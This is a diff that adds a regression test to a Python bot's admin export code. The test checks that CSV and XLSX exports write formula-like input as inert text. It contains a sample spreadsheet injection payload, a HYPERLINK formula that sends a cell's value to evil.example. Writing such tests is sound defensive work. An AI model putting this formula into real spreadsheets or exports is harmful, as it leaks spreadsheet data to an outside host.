@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import dataclasses
 import io
+import time
 from collections.abc import AsyncIterator
 from datetime import datetime, timedelta
 from typing import Any
@@ -19,6 +20,7 @@ from bot.config import Settings
 from bot.errors import CommandError
 from bot.model import UserKey
 from bot.runtime import Runtime
+from bot.services.audit import Actor
 from bot.web.app import create_app
 from tests.kit.chat import Chat
 from tests.kit.console import PASSWORD, account, csrf_of, hidden, log_in
@@ -573,6 +575,37 @@ async def test_exports_stream_csv_and_xlsx_that_read_back(
         await city.close()
         await manager.close()
     assert "exports.download" in [e["what"] for _, e in await runtime.audit.entries()]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+async def test_exports_never_write_a_live_formula(plain: Settings, runtime: Runtime) -> None:
+    """A slot's task and a rejection's reason typed to start a formula are written as text:
+    a leading ' in CSV, string cells (no formula, no link) in XLSX."""
+    start = int(time.time()) + 48 * 3600
+    slot = await runtime.bookings.add_slot("jinkui", start, start + 3600, 5, HOSTILE)
+    await runtime.bookings.book("test:v", slot.id, "-1+2", "zh", int(time.time()))
+    claim_id = await in_kind_claim(runtime, "c")
+    await runtime.claims.decide(claim_id, False, Actor.console("greening"), "+1+1")
+    await account(runtime, "greening", "city")
+    city = await fresh(plain, runtime)
+    try:
+        await log_in(city, "greening")
+        period = {"from": "2020-01-01", "to": "2099-12-31"}
+        bookings = await (await city.get("/admin/exports/bookings.csv", params=period)).read()
+        (row,) = csv.DictReader(io.StringIO(bookings.decode("utf-8-sig")))
+        assert row["task"] == "'" + HOSTILE
+        claims = await (await city.get("/admin/exports/claims.csv", params=period)).read()
+        assert "'+1+1" in claims.decode("utf-8-sig")
+        xlsx = await city.get("/admin/exports/bookings.xlsx", params=period)
+        book = openpyxl.load_workbook(io.BytesIO(await xlsx.read()))
+        cells = [cell for line in book.active.iter_rows() for cell in line]
+        task = next(c for c in cells if c.value == HOSTILE)
+        assert task.data_type == "s" and task.hyperlink is None  # text, not a formula
+        assert not [c for c in cells if c.data_type == "f"]
+    finally:
+        await city.close()
 
 
 ALLOWED = {  # section of a path → roles that may open it (an auditor only reads)
